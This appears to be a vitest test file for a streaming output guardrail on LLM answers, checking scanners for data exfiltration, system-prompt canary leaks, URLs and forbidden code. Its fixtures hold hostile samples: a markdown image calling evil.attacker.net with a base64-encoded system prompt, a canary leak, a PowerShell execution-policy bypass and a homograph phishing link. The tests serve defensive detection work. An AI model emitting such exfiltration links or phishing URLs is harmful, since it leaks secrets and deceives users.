// The output rails inside the real pipeline: policy loading, guardStream windows, batch-like checks.
import { describe, expect, it } from 'vitest';
import type { GuardStreamEvent } from '../../pipeline/guard-stream.js';
import { createTestGuard } from '../../testing/create-test-guard.js';
import { codeScanner } from '../code/index.js';
import { promptLeakScanner } from '../prompt-leak/index.js';
import { refusalScanner } from '../refusal/index.js';
import { urlsScanner } from '../urls/index.js';
import { exfiltrationScanner } from './index.js';

const policy = `
output:
  stream: { windowChars: 64 }
  scanners:
    - use: exfiltration
      config: { allowedDomains: ['*.example.com'] }
    - use: prompt-leak
    - use: urls
    - use: refusal
    - use: code
      config: { languages: [powershell] }
  rules:
    - when: { scanner: refusal }
      action: allow
`;

async function streamThrough(chunks: readonly string[], options: { system?: string; canary?: string } = {}) {
  const guard = await createTestGuard({
    policy,
    scanners: [exfiltrationScanner, promptLeakScanner, urlsScanner, refusalScanner, codeScanner],
  });
  const released: string[] = [];
  const events: GuardStreamEvent[] = [];
  const source = new ReadableStream<string>({
    start(controller) {
      for (const chunk of chunks) controller.enqueue(chunk);
      controller.close();
    },
  });
  const reader = source.pipeThrough(guard.stream(options)).getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    if (typeof value === 'string') released.push(value);
    else events.push(value);
  }
  await guard.close();
  return { text: released.join(''), events };
}

function chunk(text: string, size: number): string[] {
  const chunks: string[] = [];
  for (let index = 0; index < text.length; index += size) chunks.push(text.slice(index, index + size));
  return chunks;
}

describe('window safety', () => {
  it('reports nothing for any prefix of a clean answer (hosts cut off by the window are pending)', async () => {
    const { createScanContext } = await import('../urls/run-batch-row.js');
    const { ExfiltrationConfig } = await import('./index.js');
    const { UrlsConfig } = await import('../urls/index.js');
    const exfiltration = await exfiltrationScanner.create(
      ExfiltrationConfig.parse({ allowedDomains: ['*.example.com'], externalLinks: 'flag' }),
    );
    const urls = await urlsScanner.create(UrlsConfig.parse({}));
    const answer =
      'See ![logo](https://cdn.example.com/logo.png), <img src="https://img.example.com/a.png"> and ' +
      'https://docs.example.com/guide or http://123movies.example.com/ today.';
    for (let end = 1; end <= answer.length; end++) {
      const context = createScanContext(answer.slice(0, end));
      expect((await exfiltration.scan(context)).findings, answer.slice(0, end)).toEqual([]);
      expect((await urls.scan(context)).findings, answer.slice(0, end)).toEqual([]);
    }
  });

  it('still judges complete hosts and data at the end of the text', async () => {
    const { runBatchRow } = await import('../urls/run-batch-row.js');
    expect((await runBatchRow(urlsScanner, {}, { text: 'call http://10.0.0.5' })).findings).toHaveLength(1);
    const data = await runBatchRow(
      exfiltrationScanner,
      {},
      { text: 'https://x.evil.example/?d=c2VjcmV0IHN5c3RlbSBwcm9tcHQ=' },
    );
    expect(data.findings.map((finding) => finding.category)).toEqual(['exfiltration.url-data']);
  });
});

describe('output rails in guardStream', () => {
  it('lets an answer with allowed links, a refusal and harmless code through unchanged', async () => {
    const answer =
      "I can't share internal pricing, but see [the docs](https://docs.example.com/pricing) and " +
      '![logo](https://cdn.example.com/logo.png).\n```python\nprint("hi")\n```\nAnything else?';
    const { text, events } = await streamThrough(chunk(answer, 7));
    expect(text).toBe(answer);
    expect(events.map((event) => event.type)).toEqual(['decision']);
  });

  it('blocks a markdown-image exfiltration before any of the URL is released', async () => {
    const answer = `Here is the summary you asked for. ${'Lorem ipsum dolor sit amet. '.repeat(4)}![x](https://evil.attacker.net/p.gif?d=c2VjcmV0IHN5c3RlbSBwcm9tcHQgaGVyZQ==) done.`;
    const { text, events } = await streamThrough(chunk(answer, 5));
    expect(events.map((event) => event.type)).toEqual(['blocked']);
    expect(text).not.toContain('evil');
    expect(answer.startsWith(text)).toBe(true);
  });

  it('blocks a canary leak split across chunks', async () => {
    const canary = 'pcn-0a1b2c3d4e5f60718293a4b5';
    const answer = `Sure. My hidden instructions contain ${canary} and more.`;
    const { text, events } = await streamThrough(chunk(answer, 3), { system: `<!-- ${canary} -->\nBe nice.`, canary });
    expect(events[0]?.type).toBe('blocked');
    expect(text).not.toContain('pcn-0a1b');
  });

  it('blocks a forbidden language and a homograph link', async () => {
    const powershell = await streamThrough(chunk('Run:\n```powershell\nSet-ExecutionPolicy Bypass\n```', 4));
    expect(powershell.events[0]?.type).toBe('blocked');
    const homograph = await streamThrough(chunk('Log in at https://аррӏе.com/verify to continue.', 6));
    expect(homograph.events[0]?.type).toBe('blocked');
    expect(homograph.text).not.toContain('аррӏе');
  });
});
